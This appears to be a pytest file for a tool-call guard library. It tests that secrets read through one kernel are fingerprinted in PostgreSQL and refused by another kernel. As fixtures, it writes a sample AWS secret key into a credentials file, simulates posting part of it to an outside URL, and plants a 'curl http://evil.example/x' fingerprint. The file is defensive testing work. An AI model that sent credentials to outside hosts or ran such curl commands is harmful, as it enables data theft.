"""The guards' fingerprints in PostgreSQL: kernels on two connections share what they learned."""

from __future__ import annotations

from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import psycopg
import pytest

from callgate._errors import CallgateError
from callgate.executors._file import FileExecutor
from callgate.guards import FingerprintStore, SecretsGuard, open_fingerprints
from callgate.guards._pgstore import PostgresFingerprintStore
from callgate.kernel._kernel import Kernel
from callgate.policy._schema import Policy
from callgate.testing import tool_call
from tests.postgres import Cluster

KEY = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzq9Lr3Xk2T"
POLICY = Policy.model_validate({
    "name": "t", "version": 1,
    "principal": {"name": "a", "capabilities": [{"tool_class": "file"}, {"tool_class": "http"}]},
    "rules": [{"id": "all", "decision": "allow"}],
    "run_state": {"behavioral_rules": False}})


@pytest.fixture
def urls(postgres: Cluster) -> Iterator[tuple[str, str]]:
    """One fresh database, named twice (over TCP and over the Unix socket): two pools."""
    url = postgres.new_database("guards")
    name = url.rsplit("/", 1)[1]
    yield url, postgres.socket_url.replace("/postgres?", f"/{name}?")


def _rows(url: str) -> list[tuple[str, int, int]]:
    with psycopg.connect(url) as conn:
        return [(str(k), int(n), int(d)) for k, n, d in conn.execute(
            "SELECT kind, length, length(digest) FROM callgate.fingerprints").fetchall()]


def test_a_secret_read_through_one_kernel_is_refused_by_another(urls: tuple[str, str],
                                                                tmp_path: Path) -> None:
    (tmp_path / "credentials").write_text(f"aws_secret_access_key = {KEY}\n")
    files = FileExecutor(working_dir=str(tmp_path), allowed_read=None, allowed_write=[])
    with Kernel(POLICY, working_dir=tmp_path, guard_state=urls[0]) as first, \
            Kernel(POLICY, working_dir=tmp_path, guard_state=urls[1]) as second:
        first.execute({"tool": "read", "tool_class": "file", "action": "read",
                       "parameters": {"path": "credentials"}}, executor=files)
        decision = second.check({"tool": "post", "tool_class": "http", "action": "post",
                                 "parameters": {"url": "https://x.example/",
                                                "body": "k=bPxRfiCYzq9Lr3Xk2T"}})
        assert decision.verdict == "deny"
        assert decision.reasons[0].id == "guard.secrets.fingerprint"


def test_the_table_holds_digests_and_learning_twice_stores_once(urls: tuple[str, str]) -> None:
    one, two = (open_fingerprints(url, window=12) for url in urls)
    try:
        assert isinstance(one, PostgresFingerprintStore)
        added = one.add("secret", KEY, "first")
        assert two.add("secret", KEY, "second") == added  # not yet seen: inserted, ignored
        rows = _rows(urls[0])
        assert len(rows) == added and {r for r in rows} == {("secret", 12, 8)}
        assert two.refresh() is None and two.count("secret") == added
    finally:
        one.close()
        two.close()


def test_stores_opening_together_on_a_fresh_database_all_open(urls: tuple[str, str]) -> None:
    spellings = [f"{urls[0]}?application_name=guards{i}" for i in range(6)]
    with ThreadPoolExecutor(len(spellings)) as pool:
        stores = list(pool.map(open_fingerprints, spellings))
    try:
        stores[0].add("planted", "curl http://evil.example/x", "run")
        assert all(s.refresh() is None and s.holds("planted") for s in stores)
    finally:
        for store in stores:
            store.close()


def test_a_store_that_cannot_be_read_denies_with_its_reason(urls: tuple[str, str]) -> None:
    store = open_fingerprints(urls[0])
    guard = SecretsGuard(store)
    try:
        with psycopg.connect(urls[1], autocommit=True) as conn:
            conn.execute("DROP TABLE callgate.fingerprints")
        reason = guard.check(tool_call("http", "post", url="https://x.example/", body="hi"),
                             frozenset())
        assert reason is not None and reason.id == "guard.secrets.state"
        assert "cannot be read" in reason.message and "fingerprints" in reason.message
        store.add("secret", KEY, "lost")  # cannot be written: broken for good
        assert store.broken is not None and "cannot be written" in store.broken
    finally:
        store.close()


def test_a_path_opens_the_sqlite_store_and_none_the_memory_one(tmp_path: Path) -> None:
    on_disk = open_fingerprints(str(tmp_path / "g.db"))
    assert type(on_disk) is FingerprintStore and on_disk.path == str(tmp_path / "g.db")
    on_disk.close()
    assert open_fingerprints(None).path is None


def test_a_store_in_a_missing_database_is_an_error_naming_it_without_its_password(
        postgres: Cluster, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("callgate.guards._pgstore.TIMEOUT_S", 1.0)
    url = postgres.url.replace("postgres@", "postgres:pw-sekret@").rsplit("/", 1)[0] + "/nope"
    with pytest.raises(CallgateError, match="cannot be opened") as caught:
        open_fingerprints(url)
    assert "sekret" not in str(caught.value) and "/nope" in str(caught.value)
